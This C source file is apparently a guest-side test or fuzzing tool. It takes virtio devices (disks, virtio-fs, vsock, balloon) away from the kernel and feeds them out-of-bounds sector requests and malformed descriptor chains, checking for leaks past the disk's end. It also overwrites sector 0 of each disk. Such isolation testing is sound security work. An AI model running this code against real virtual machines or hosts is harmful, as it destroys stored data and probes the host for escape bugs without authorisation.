/*
 * A driver in the hands of an attacker who has the guest's kernel: takes a virtio device from the kernel's own driver and drives
 * its registers and queues itself (virtio 1.1, sections 4.1 and 5.2), through sysfs.
 *
 *   drive-virtio disks SEED COUNT   every virtio-blk device: writes, discards, zeroes, sectors beyond the end, then COUNT malformed
 *                                   chains; looks in what it reads beyond the end for the word that the disk begins with
 *   drive-virtio share SEED COUNT   the virtio-fs device: COUNT malformed chains, until it answers no more
 *   drive-virtio others SEED COUNT  each other virtio device, the vsock and the balloon last: COUNT malformed chains in all its queues
 *
 * One line on stdout says what came of it; of `others`, which takes the guest's way to tell it away, on the console.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <linux/virtio_blk.h>
#include <linux/virtio_pci.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>
#include "virtqueue.h"

enum { BLOCK = 0x1042, BALLOON = 0x1045, VSOCK = 0x1053, SHARE = 0x105a, COMMAND = 4, MEMORY_AND_MASTER = 6, SOUND_LIMIT_MS = 1500, MALFORMED_LIMIT_MS = 40, DEVICES_MAX = 8 };
#define HUGE (2ul << 20)

static void die(const char *what) { printf("%s: %s\n", what, strerror(errno)); exit(1); }

/* Memory in one piece, and where it is for a device. */
static struct memory claimMemory(void) {
  int pages = open("/proc/sys/vm/nr_hugepages", O_WRONLY);
  if (pages < 0 || write(pages, "1", 1) != 1) die("nr_hugepages");
  char *here = mmap(NULL, HUGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0);
  if (here == MAP_FAILED) die("huge page");
  memset(here, 0, HUGE);
  uint64_t entry = 0;
  int map = open("/proc/self/pagemap", O_RDONLY);
  if (map < 0 || pread(map, &entry, 8, (uintptr_t)here / 4096 * 8) != 8) die("pagemap");
  return (struct memory){ here, (entry & ((1ull << 55) - 1)) * 4096 };
}

/* --- a modern virtio device on PCI ------------------------------------------------------------------------------- */

struct device {
  char name[256];
  int config;
  volatile struct virtio_pci_common_cfg *common;
  volatile char *notify;
  volatile char *specific;
  uint32_t notifyStep;
};

static int openOf(const struct device *device, const char *file, int flags) {
  char path[512];
  snprintf(path, sizeof path, "/sys/bus/pci/devices/%s/%s", device->name, file);
  return open(path, flags);
}

static unsigned numberIn(const struct device *device, const char *file) {
  char text[32] = { 0 };
  int fd = openOf(device, file, O_RDONLY);
  if (fd < 0 || read(fd, text, sizeof text - 1) < 0) return 0;
  close(fd);
  return strtoul(text, NULL, 16);
}

static volatile char *mapBar(const struct device *device, int bar) {
  char file[16];
  snprintf(file, sizeof file, "resource%d", bar);
  int fd = openOf(device, file, O_RDWR | O_SYNC);
  off_t size = fd < 0 ? -1 : lseek(fd, 0, SEEK_END);
  if (size <= 0) die(file);
  char *mapped = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (mapped == MAP_FAILED) die(file);
  close(fd);
  return mapped;
}

/* Takes it from its driver and finds its registers. */
static void take(struct device *device) {
  int unbind = openOf(device, "driver/unbind", O_WRONLY);
  if (unbind >= 0 && write(unbind, device->name, strlen(device->name)) < 0) die("unbind");
  if (unbind >= 0) close(unbind);
  device->config = openOf(device, "config", O_RDWR);
  uint16_t command = MEMORY_AND_MASTER;
  if (device->config < 0 || pwrite(device->config, &command, 2, COMMAND) != 2) die("config");
  volatile char *bars[6] = { 0 };
  uint8_t at = 0;
  for (pread(device->config, &at, 1, 0x34); at != 0;) {
    struct virtio_pci_notify_cap capability = { 0 };
    if (pread(device->config, &capability, sizeof capability, at) <= 0) break;
    at = capability.cap.cap_next;
    if (capability.cap.cap_vndr != 9 || capability.cap.bar > 5 || capability.cap.cfg_type < 1 || capability.cap.cfg_type > 4) continue;
    if (!bars[capability.cap.bar]) bars[capability.cap.bar] = mapBar(device, capability.cap.bar);
    volatile char *registers = bars[capability.cap.bar] + capability.cap.offset;
    switch (capability.cap.cfg_type) {
      case VIRTIO_PCI_CAP_COMMON_CFG: device->common = (void *)registers; break;
      case VIRTIO_PCI_CAP_NOTIFY_CFG: device->notify = registers, device->notifyStep = capability.notify_off_multiplier; break;
      case VIRTIO_PCI_CAP_DEVICE_CFG: device->specific = registers; break;
    }
  }
  if (!device->common || !device->notify) die("no registers");
}

/* Resets it and sets its first `queues` queues up, each QUEUE_BYTES further into the memory. Takes all features but `refused`. */
static void begin(struct device *device, struct memory memory, int queues, uint64_t refused) {
  volatile struct virtio_pci_common_cfg *common = device->common;
  common->device_status = 0;
  while (common->device_status != 0);
  memset(memory.here, 0, queues * QUEUE_BYTES);
  common->device_status = 1;
  common->device_status = 1 | 2;
  for (int half = 0; half < 2; half++) {
    common->device_feature_select = half;
    common->guest_feature_select = half;
    /* Of the transport's own only VERSION_1: neither indirect tables' limits nor event indices stand in the way of anything. */
    common->guest_feature = common->device_feature & (half == 0 ? ~(uint32_t)(refused | 1u << 29) : 1u);
  }
  common->device_status = 1 | 2 | 8;
  for (int queue = 0; queue < queues; queue++) {
    common->queue_select = queue;
    common->queue_size = RING;
    common->queue_msix_vector = 0xffff;
    uint64_t at[] = { memory.there + queue * QUEUE_BYTES, memory.there + queue * QUEUE_BYTES + AVAILABLE_AT, memory.there + queue * QUEUE_BYTES + USED_AT };
    common->queue_desc_lo = at[0], common->queue_desc_hi = at[0] >> 32;
    common->queue_avail_lo = at[1], common->queue_avail_hi = at[1] >> 32;
    common->queue_used_lo = at[2], common->queue_used_hi = at[2] >> 32;
    common->queue_enable = 1;
  }
  common->device_status = 1 | 2 | 4 | 8;
}

static void notify(struct device *device, int queue) {
  device->common->queue_select = queue;
  *(volatile uint16_t *)(device->notify + device->common->queue_notify_off * device->notifyStep) = queue;
}

/* Hands a chain over; whether something was used within the limit. */
static int hand(struct device *device, struct memory memory, int queue, struct chain chain, int limitMs) {
  volatile struct used *used = usedOf(memory, queue);
  uint16_t before = used->index;
  post(memory, queue, chain.head, chain.by);
  notify(device, queue);
  for (int waitedMs = 0; used->index == before; waitedMs++) {
    if (waitedMs == limitMs || device->common->device_status & 0x40) return 0;
    nanosleep(&(struct timespec){ .tv_nsec = 1000000 }, NULL);
  }
  return 1;
}

/* --- disks ------------------------------------------------------------------------------------------------------- */

enum { SECTOR = 512 };
static long unanswered, resets;

/* One request by hand: status of the device, or 255. `data` bytes lie at ANSWER_AT. */
static int request(struct device *device, struct memory memory, uint32_t type, uint64_t sector, uint32_t data, int reads) {
  struct virtio_blk_outhdr *header = (void *)(memory.here + REQUEST_AT);
  *header = (struct virtio_blk_outhdr){ .type = type, .sector = sector };
  memory.here[HEADER_AT] = -1;
  struct descriptor *at = descriptorsOf(memory, 0);
  at[0] = (struct descriptor){ memory.there + REQUEST_AT, sizeof *header, NEXT, data ? 1 : 2 };
  at[1] = (struct descriptor){ memory.there + ANSWER_AT, data, NEXT | (reads ? WRITES : 0), 2 };
  at[2] = (struct descriptor){ memory.there + HEADER_AT, 1, WRITES, 0 };
  if (!hand(device, memory, 0, (struct chain){ 0, 1, "" }, SOUND_LIMIT_MS)) unanswered++;
  if (device->common->device_status & 0x40) resets++, begin(device, memory, 1, 1u << VIRTIO_BLK_F_RO | 1u << VIRTIO_BLK_F_MQ);
  return (uint8_t)memory.here[HEADER_AT];
}

static void attackDisk(struct device *device, struct memory memory, uint64_t seed, long count) {
  const uint64_t refused = 1u << VIRTIO_BLK_F_RO | 1u << VIRTIO_BLK_F_MQ;
  begin(device, memory, 1, refused);
  char *data = memory.here + ANSWER_AT;
  uint64_t capacity = *(volatile uint64_t *)device->specific;
  int read = request(device, memory, VIRTIO_BLK_T_IN, 0, SECTOR, 1), leaks = 0, done = 0;
  char secret[32] = { 0 };
  memcpy(secret, data, sizeof secret - 1);
  memset(data, 0x48, 64 * SECTOR);
  int write = request(device, memory, VIRTIO_BLK_T_OUT, 0, SECTOR, 0);
  const uint64_t beyond[] = { capacity - 1, capacity, capacity + 1, capacity + 2048, 1ull << 32, 1ull << 54, (1ull << 55) - 1, 1ull << 63, ~0ull, ~0ull - 7 };
  for (unsigned each = 0; each < sizeof beyond / sizeof *beyond; each++) {
    memset(data, 0x48, 16 * SECTOR);
    done += request(device, memory, VIRTIO_BLK_T_OUT, beyond[each], 16 * SECTOR, 0) == 0;
    memset(data, 0, 16 * SECTOR);
    done += request(device, memory, VIRTIO_BLK_T_IN, beyond[each], 16 * SECTOR, 1) == 0;
    leaks += memmem(data, 16 * SECTOR, secret, strlen(secret)) != NULL;
  }
  /* Discard, write zeroes and secure erase name their sectors in the data; so do lengths that no disk has. */
  const struct virtio_blk_discard_write_zeroes ranges[] = { { 0, 8, 0 }, { 0, 8, 1 }, { capacity - 1, 8, 0 }, { capacity, 0xffffffff, 0 }, { ~0ull, 8, 0 }, { 0, 0xffffffff, 1 } };
  const uint32_t types[] = { VIRTIO_BLK_T_DISCARD, VIRTIO_BLK_T_WRITE_ZEROES, 14 /* secure erase */ };
  int ranged = 0;
  for (unsigned type = 0; type < 3; type++) {
    for (unsigned each = 0; each < sizeof ranges / sizeof *ranges; each++) {
      memcpy(data, &ranges[each], sizeof *ranges);
      ranged += request(device, memory, types[type], 0, sizeof *ranges, 0) == 0;
    }
  }
  for (uint32_t length = 1; length < 3 * SECTOR; length += 100) request(device, memory, VIRTIO_BLK_T_OUT, 0, length, 0);
  for (uint32_t type = 2; type < 40; type++) request(device, memory, type, 0, SECTOR, type & 1);
  seedChance(seed);
  for (long made = 0; made < count; made++) {
    struct virtio_blk_outhdr *header = (void *)(memory.here + REQUEST_AT);
    *header = (struct virtio_blk_outhdr){ .type = below(3) ? VIRTIO_BLK_T_OUT : below(16), .sector = below(2) ? beyond[below(10)] : below(capacity) };
    hand(device, memory, 0, malformedChain(memory, 0, sizeof *header, below(8) * SECTOR, 1), MALFORMED_LIMIT_MS);
    if (device->common->device_status & 0x40) resets++;
    begin(device, memory, 1, refused);
  }
  int alive = request(device, memory, VIRTIO_BLK_T_IN, 0, SECTOR, 1);
  printf("disk of %llu sectors: read %d, write %d, beyond the end %d done and %d told a secret, %d ranges done, %ld not answered, %ld chains, %ld resets, then read %d; ",
    (unsigned long long)capacity, read, write, done, leaks, ranged, unanswered, count, resets, alive);
  unanswered = resets = 0;
}

/* --- the share --------------------------------------------------------------------------------------------------- */

static uint32_t getattr(struct memory memory) {
  struct fuse_in_header header = { .len = sizeof header + 16, .opcode = FUSE_GETATTR, .unique = 7, .nodeid = 1 };
  memset(memory.here + REQUEST_AT, 0, header.len), memcpy(memory.here + REQUEST_AT, &header, sizeof header);
  return header.len;
}

static void attackShare(struct device *device, struct memory memory, uint64_t seed, long count) {
  enum { QUEUE = 1, QUEUES = 2 };
  begin(device, memory, QUEUES, 0);
  struct fuse_in_header header = { .len = sizeof header + 16, .opcode = FUSE_INIT, .unique = 1 };
  struct fuse_init_in init = { .major = 7, .minor = 31, .max_readahead = 1 << 17 };
  memcpy(memory.here + REQUEST_AT, &header, sizeof header), memcpy(memory.here + REQUEST_AT + sizeof header, &init, 16);
  int answered = hand(device, memory, QUEUE, soundChain(memory, QUEUE, header.len, sizeof(struct fuse_out_header), ANSWER_MAX), SOUND_LIMIT_MS);
  if (!answered) { printf("virtio-fs does not answer a sound request"); return; }
  seedChance(seed);
  printf("virtio-fs answers a driver of its own; attacked by malformed chains");
  fflush(stdout);
  for (long made = 0; made < count; made++) {
    struct chain chain = malformedChain(memory, QUEUE, getattr(memory), sizeof(struct fuse_out_header), ANSWER_MAX);
    hand(device, memory, QUEUE, chain, MALFORMED_LIMIT_MS);
  }
}

/* --- any device ---------------------------------------------------------------------------------------------------- */

/* A device that can speak the protocol's older version as well has a number of its own (virtio 1.1, 4.1.2.1): its subsystem tells the kind. */
static unsigned modernId(const struct device *device) {
  unsigned id = numberIn(device, "device");
  return id >= 0x1040 ? id : 0x1040 + numberIn(device, "subsystem_device");
}

static void attackAny(struct device *device, struct memory memory, uint64_t seed, long count) {
  enum { QUEUES_MAX = 4, VSOCK_HEADER = 44 };
  int queues = device->common->num_queues < QUEUES_MAX ? device->common->num_queues : QUEUES_MAX;
  long used = 0;
  seedChance(seed);
  begin(device, memory, queues, 0);
  for (long made = 0; made < count; made++) {
    for (int byte = 0; byte < 256; byte++) memory.here[REQUEST_AT + byte] = below(2) ? chance() : 0;
    int queue = below(queues);
    uint32_t length = 1 + below(256), header = 1 + below(64), room = below(8192);
    struct chain chain = malformedChain(memory, queue, length, header, room);
    /* Sound ones between: they show that the queue is served at all. A packet of vsock's is its header, which asks for nothing, and no answer. */
    if (below(4) == 0) {
      int isVsock = modernId(device) == VSOCK;
      chain = soundChain(memory, queue, isVsock ? VSOCK_HEADER : length, header, room);
      if (isVsock) memset(memory.here + REQUEST_AT, 0, VSOCK_HEADER), descriptorsOf(memory, queue)->flags = 0;
    }
    used += hand(device, memory, queue, chain, MALFORMED_LIMIT_MS / 3);
    /* What was pushed out of step, or is broken, begins anew. */
    if (device->common->device_status & 0x40 || made % 4 == 3) resets++, begin(device, memory, queues, 0);
  }
  int console = open("/dev/console", O_WRONLY | O_NOCTTY);
  if (console >= 0) dprintf(console, "attacked %x: %d queues, %ld of %ld chains used\n", modernId(device), queues, used, count);
  close(console);
}

/* Whether it is one of those that are asked for, and its turn. */
static int turnOf(const char *which, unsigned id) {
  if (!strcmp(which, "disks")) return id == BLOCK;
  if (!strcmp(which, "share")) return id == SHARE;
  return id == BLOCK || id == SHARE ? 0 : id == BALLOON ? 3 : id == VSOCK ? 2 : 1;
}

int main(int argc, char **argv) {
  if (argc < 4) return 2;
  uint64_t seed = strtoull(argv[2], NULL, 10);
  long chains = atol(argv[3]);
  struct memory memory = claimMemory();
  struct device found[DEVICES_MAX];
  int count = 0;
  for (int turn = 1; turn <= 3; turn++) {
    DIR *devices = opendir("/sys/bus/pci/devices");
    for (struct dirent *entry; devices && count < DEVICES_MAX && (entry = readdir(devices));) {
      struct device *device = found + count;
      *device = (struct device){ .config = -1 };
      snprintf(device->name, sizeof device->name, "%s", entry->d_name);
      if (numberIn(device, "vendor") == 0x1af4 && turnOf(argv[1], modernId(device)) == turn) count++;
    }
    closedir(devices);
  }
  if (count == 0) { printf("no such device"); return 1; }
  for (int each = 0; each < count; each++) {
    take(found + each);
    if (!strcmp(argv[1], "disks")) attackDisk(found + each, memory, seed, chains);
    else if (!strcmp(argv[1], "share")) attackShare(found + each, memory, seed, chains);
    else attackAny(found + each, memory, seed, chains);
  }
  printf("\n");
  return 0;
}
